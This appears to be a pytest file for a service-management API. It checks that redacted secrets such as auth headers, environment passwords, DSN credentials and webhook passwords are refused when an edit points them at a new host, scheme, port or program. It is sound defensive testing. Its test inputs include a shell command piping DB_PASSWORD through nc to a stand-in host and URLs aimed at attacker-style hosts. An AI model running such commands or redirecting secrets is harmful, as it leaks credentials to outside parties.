"""A redacted secret sent back stays bound to where it was stored: a placeholder whose destination (URL scheme,
host and port; the program that receives an environment) changed is refused, never redirected."""

from __future__ import annotations

import pytest
import yaml
from sqlalchemy import select

from windflow.domain.redaction import REDACTED, restore_secrets
from windflow.persistence.models import ServiceRow

pytestmark = pytest.mark.asyncio(loop_scope="session")

PROBE_TOKEN = "Bearer pr0be-s3cret"


def probed(sid: str, url: str = "http://127.0.0.1:9100/health") -> dict:
    return {
        "id": sid,
        "driver": "process",
        "config": {"command": ["python3", "-m", "http.server", "9100"], "env": {"DB_PASSWORD": "hunter2"}},
        "health": {"kind": "http", "url": url, "headers": {"Authorization": PROBE_TOKEN}},
    }


async def stored_spec(db, sid: str) -> dict:
    async with db.read() as s:
        return (await s.execute(select(ServiceRow).where(ServiceRow.id == sid))).scalar_one().spec


async def edit(api, sid: str, change) -> object:
    got = (await api.get(f"/api/v1/services/{sid}/config")).json()
    content = got["content"]
    change(content)
    return await api.put(
        f"/api/v1/services/{sid}/config", json={"content": content}, headers={"If-Match": f'"{got["version"]}"'}
    )


def problem_locs(resp) -> list[list]:
    assert resp.status_code == 422, resp.text
    err = resp.json()["error"]
    assert "re-enter" in err["message"], err
    return [p["loc"] for p in err["details"]]


async def test_probe_header_is_not_sent_to_a_new_host(api, db):
    assert (await api.post("/api/v1/services", json=probed("web"))).status_code == 201
    before = await stored_spec(db, "web")

    def to_receiver(c):
        c["health"]["url"] = "http://receiver.example:8080/collect"

    r = await edit(api, "web", to_receiver)
    assert ["health", "headers", "Authorization"] in problem_locs(r)
    assert await stored_spec(db, "web") == before  # nothing saved

    def to_https(c):  # the same host on another scheme or port is another destination too
        c["health"]["url"] = "https://127.0.0.1:9100/health"

    assert ["health", "headers", "Authorization"] in problem_locs(await edit(api, "web", to_https))

    def new_path(c):  # same origin, other path: the secret is kept
        c["health"]["url"] = "http://127.0.0.1:9100/ready"

    r = await edit(api, "web", new_path)
    assert r.status_code == 200, r.text
    spec = await stored_spec(db, "web")
    assert spec["health"]["headers"]["Authorization"] == PROBE_TOKEN
    assert spec["health"]["url"] == "http://127.0.0.1:9100/ready"

    def new_host_new_secret(c):  # re-entering the secret is how to send it somewhere else
        c["health"]["url"] = "http://10.0.0.7:9100/health"
        c["health"]["headers"]["Authorization"] = "Bearer other"

    assert (await edit(api, "web", new_host_new_secret)).status_code == 200
    assert (await stored_spec(db, "web"))["health"]["headers"]["Authorization"] == "Bearer other"


async def test_env_secret_stays_with_its_program(api, db):
    assert (await api.post("/api/v1/services", json=probed("app"))).status_code == 201

    def other_program(c):
        c["config"]["command"] = ["sh", "-c", "echo $DB_PASSWORD | nc receiver.example 80"]

    r = await edit(api, "app", other_program)
    assert ["config", "env", "DB_PASSWORD"] in problem_locs(r)
    assert (await stored_spec(db, "app"))["config"]["command"][0] == "python3"

    def same_program(c):
        c["config"]["env"]["MODE"] = "prod"

    assert (await edit(api, "app", same_program)).status_code == 200
    assert (await stored_spec(db, "app"))["config"]["env"] == {"DB_PASSWORD": "hunter2", "MODE": "prod"}


async def test_url_password_and_driver_token_follow_their_host(api, db):
    body = {
        "id": "ctl",
        "driver": "http",
        "config": {
            "start": {"url": "http://127.0.0.1:9200/start"},
            "stop": {"url": "http://127.0.0.1:9200/stop"},
            "auth_token": "drv-t0ken",
        },
        "health": {"kind": "postgres", "dsn": "postgresql://app:s3cret@127.0.0.1:5432/app"},
    }
    assert (await api.post("/api/v1/services", json=body)).status_code == 201

    def dsn_elsewhere(c):
        c["health"]["dsn"] = c["health"]["dsn"].replace("127.0.0.1", "db.attacker.example")

    assert ["health", "dsn"] in problem_locs(await edit(api, "ctl", dsn_elsewhere))

    def stop_elsewhere(c):  # the bearer token goes to every endpoint: moving one moves the token
        c["config"]["stop"]["url"] = "http://receiver.example/stop"

    assert ["config", "auth_token"] in problem_locs(await edit(api, "ctl", stop_elsewhere))
    spec = await stored_spec(db, "ctl")
    assert spec["config"]["auth_token"] == "drv-t0ken" and spec["config"]["stop"]["url"].startswith("http://127.")


async def test_system_apply_and_channels_refuse_moved_secrets(api, db):
    system = {
        "services": {"web": {k: v for k, v in probed("web").items() if k != "id"}},
        "notifications": {
            "channels": [
                {
                    "name": "pager",
                    "kind": "webhook",
                    "url": "https://pager.example/hook",
                    "headers": {"Authorization": "Bearer ch4nnel"},
                }
            ]
        },
    }
    put = {"content-type": "application/yaml"}
    assert (await api.put("/api/v1/system", content=yaml.safe_dump(system), headers=put)).status_code == 200
    exported = yaml.safe_load((await api.get("/api/v1/system")).text)
    assert exported["notifications"]["channels"][0]["headers"]["Authorization"] == REDACTED

    moved = yaml.safe_load(yaml.safe_dump(exported))
    moved["notifications"]["channels"][0]["url"] = "https://receiver.example/collect"
    moved["services"]["web"]["health"]["url"] = "http://receiver.example/collect"
    r = await api.put("/api/v1/system", content=yaml.safe_dump(moved), headers=put)
    locs = problem_locs(r)
    assert ["notifications", "channels", 0, "headers", "Authorization"] in locs
    assert ["services", "web", "health", "headers", "Authorization"] in locs
    # unchanged destinations: the redacted export applies back as it is
    r = await api.put("/api/v1/system", content=yaml.safe_dump(exported), headers=put)
    assert r.status_code == 200, r.text
    assert (await stored_spec(db, "web"))["health"]["headers"]["Authorization"] == PROBE_TOKEN


async def test_restore_secrets_rules():
    old = {"health": {"url": "http://a:80/x", "headers": {"Authorization": "s"}}, "labels": {"api_token": "t"}}
    same = {"health": {"url": "HTTP://A/y", "headers": {"Authorization": REDACTED}}, "labels": {"api_token": REDACTED}}
    merged, problems = restore_secrets(same, old)
    assert problems == []
    assert merged["health"]["headers"]["Authorization"] == "s" and merged["labels"]["api_token"] == "t"
    # a hex/decimal spelling of another host, or a new port, is another destination
    for url in ("http://0x7f000001/x", "http://a:8080/x", "http://a.evil/x"):
        moved = {**same, "health": {**same["health"], "url": url}}
        merged, problems = restore_secrets(moved, old)
        assert problems and problems[0][0] == ["health", "headers", "Authorization"]
        assert merged["health"]["headers"]["Authorization"] == REDACTED
    # a placeholder with nothing stored behind it
    _, problems = restore_secrets({"health": {"url": "http://a/x", "headers": {"X-Api-Key": REDACTED}}}, old)
    assert problems[0][0] == ["health", "headers", "X-Api-Key"]


async def test_webhook_url_password_is_not_moved(api):
    r = await api.post("/api/v1/webhooks", json={"url": "https://ops:pw-s3cret@hooks.example/in"})
    assert r.status_code == 201, r.text
    hook = r.json()
    assert hook["url"] == f"https://ops:{REDACTED}@hooks.example/in"
    r = await api.patch(f"/api/v1/webhooks/{hook['id']}", json={"url": f"https://ops:{REDACTED}@receiver.example/in"})
    assert r.status_code == 422 and "re-enter" in r.json()["error"]["message"], r.text
    # the same redacted URL sent back changes nothing (and keeps the password)
    r = await api.patch(f"/api/v1/webhooks/{hook['id']}", json={"url": hook["url"], "description": "x"})
    assert r.status_code == 200 and r.json()["url"] == hook["url"] and r.json()["description"] == "x"
